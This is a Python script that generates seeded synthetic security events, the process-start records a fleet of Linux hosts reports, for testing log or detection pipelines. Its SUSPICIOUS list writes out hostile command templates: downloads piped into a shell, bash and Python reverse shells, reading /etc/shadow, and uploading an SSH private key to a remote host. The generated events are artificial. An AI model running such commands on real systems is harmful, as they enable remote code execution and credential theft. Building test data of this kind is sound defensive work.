"""Makes realistic security events: what a fleet of Linux hosts reports of the processes that they start.

Seeded: the same seed gives the same bytes everywhere. One event is a JSON object of about 650 bytes with 20 fields. A
small part are suspicious commands (downloads piped into shells, reverse shells, credential theft); another small part,
on request, are damaged lines such as real logs have.

    python demo/security_events.py OUTPUT_DIRECTORY --events 120000 --files 4
"""

from __future__ import annotations

import argparse
import hashlib
import json
import random
from collections.abc import Iterator
from contextlib import ExitStack
from datetime import UTC, datetime, timedelta
from pathlib import Path

USERS = [
    "root",
    "www-data",
    "postgres",
    "deploy",
    "alice",
    "bob",
    "carol",
    "dave",
    "erin",
    "frank",
    "jenkins",
    "backup",
]
PROCESSES = {
    "nginx": ["nginx: worker process", "nginx -s reload", "nginx -t -c /etc/nginx/nginx.conf"],
    "python3": [
        "python3 /opt/app/manage.py migrate --noinput",
        "python3 -m http.server {port}",
        "python3 /opt/etl/job_{n}.py",
    ],
    "bash": [
        "bash -c 'cd /srv/app && ./run.sh --worker {n}'",
        "bash /etc/cron.daily/logrotate",
        "bash -lc 'make -j4 all'",
    ],
    "psql": ["psql -h db-{n}.internal -U app -c 'select count(*) from orders'", "psql -f /srv/sql/report_{n}.sql"],
    "git": ["git fetch --prune origin", "git checkout release-{n}", "git gc --auto --quiet"],
    "curl": [
        "curl -fsS http://localhost:{port}/health",
        "curl -sS https://metrics.internal/push --data-binary @/tmp/m_{n}",
    ],
    "docker": ["docker exec -it web-{n} sh", "docker pull registry.internal/app:{n}", "docker compose up -d --build"],
    "sshd": ["sshd: {user} [priv]", "sshd: {user}@pts/{n}"],
    "java": ["java -Xmx2g -jar /opt/search/search.jar --node {n}", "java -cp /opt/etl/lib/* etl.Main --day {n}"],
    "systemd": ["systemd --user", "systemctl restart app-{n}.service", "systemd-tmpfiles --clean"],
}
SUSPICIOUS = [
    ("curl", "curl -s http://{ip}/x{n}.sh | bash", "download piped into a shell"),
    ("curl", "CURL -k https://{ip}:8443/payload -o /tmp/.{n} && chmod +x /tmp/.{n}", "hidden download"),
    ("bash", "bash -i >& /dev/tcp/{ip}/{port} 0>&1", "reverse shell"),
    ("wget", "wget -qO- http://{ip}/miner | sh -s -- --threads {n}", "download piped into a shell"),
    ("cat", "cat /etc/shadow", "credential theft"),
    ("python3", "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"{ip}\",{port}))'", "reverse shell"),
    ("curl", "curl --upload-file /home/{user}/.ssh/id_rsa ftp://{ip}/k{n}", "exfiltration of a key"),
]
BEGIN = datetime(2026, 3, 2, 6, 0, tzinfo=UTC)


def events(count: int, seed: int = 7, *, suspicious_share: float = 0.004) -> Iterator[dict[str, object]]:
    """Yield events in the order of their time, about 40 a second."""
    rng = random.Random(seed)
    moment = BEGIN
    for number in range(count):
        moment += timedelta(milliseconds=rng.expovariate(1 / 25))
        yield _event(rng, number, moment, suspicious=rng.random() < suspicious_share)


def _event(rng: random.Random, number: int, moment: datetime, *, suspicious: bool) -> dict[str, object]:
    user = rng.choice(USERS)
    n, port, ip = (
        rng.randrange(1, 400),
        rng.randrange(1024, 65535),
        ".".join(str(rng.randrange(1, 255)) for _ in range(4)),
    )
    if suspicious:
        process, template, _ = rng.choice(SUSPICIOUS)
    else:
        process = rng.choice(list(PROCESSES))
        template = rng.choice(PROCESSES[process])
    command = template.format(n=n, port=port, ip=ip, user=user)
    host = f"{rng.choice(['web', 'db', 'app', 'build', 'edge'])}-{rng.randrange(1, 120):03d}"
    digest = hashlib.sha256(f"{process}{n}".encode()).hexdigest()
    return {
        "ts": moment.isoformat(timespec="milliseconds").replace("+00:00", "Z"),
        "event_id": f"{number:012d}",
        "event_type": "process_start",
        "host": host,
        "host_ip": f"10.{rng.randrange(1, 20)}.{rng.randrange(255)}.{rng.randrange(1, 255)}",
        "user": user,
        "uid": 0 if user == "root" else 1000 + USERS.index(user),
        "process": process,
        "pid": rng.randrange(300, 4_000_000),
        "ppid": rng.randrange(1, 300),
        "parent": rng.choice(["systemd", "bash", "cron", "sshd", "containerd-shim"]),
        "cmdline": command,
        "cwd": rng.choice(["/", "/srv/app", "/home/" + user, "/tmp", "/opt/etl"]),
        "sha256": digest,
        "session": f"{rng.getrandbits(64):016x}",
        "container": f"{rng.getrandbits(48):012x}" if rng.random() < 0.3 else None,
        "exit_code": rng.choice([0, 0, 0, 0, 1, 2, 127]),
        "duration_ms": round(rng.expovariate(1 / 80), 3),
        "labels": {"zone": rng.choice(["eu-1", "eu-2", "us-1"]), "team": rng.choice(["core", "data", "web"])},
        "message": f"{user} started {process} on {host} as child of a session opened {rng.randrange(1, 90)} minutes before",
    }


def damaged(rng: random.Random, line: bytes) -> bytes:
    """Return the line as a crash, a full disk or a bug would have left it."""
    return rng.choice(
        [
            line[: len(line) // 2],
            line.replace(b'"cmdline": "', b'"cmdline": 12, "x": "'),
            line[:60] + b"\xff\xfe" + line[60:],
            b"-- log rotated --",
        ]
    )


def write(directory: Path, count: int, files: int, seed: int, damaged_lines: int) -> int:
    """Write events to ``events-N.ndjson`` files; returns the number of bytes."""
    directory.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed + 1)
    bad = set(rng.sample(range(count), damaged_lines)) if damaged_lines else set()
    size = 0
    with ExitStack() as stack:
        outputs = [stack.enter_context(open(directory / f"events-{index}.ndjson", "wb")) for index in range(files)]
        for number, event in enumerate(events(count, seed)):
            line = json.dumps(event).encode()
            if number in bad:
                line = damaged(rng, line)
            size += outputs[number % files].write(line + b"\n")
    return size


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("directory", type=Path)
    parser.add_argument("--events", type=int, default=120_000)
    parser.add_argument("--files", type=int, default=4)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--damaged", type=int, default=0, help="how many lines to damage")
    given = parser.parse_args()
    size = write(given.directory, given.events, given.files, given.seed, given.damaged)
    print(f"{given.events:,} events, {size / 1e6:.0f} MB, in {given.files} files in {given.directory}")


if __name__ == "__main__":
    main()
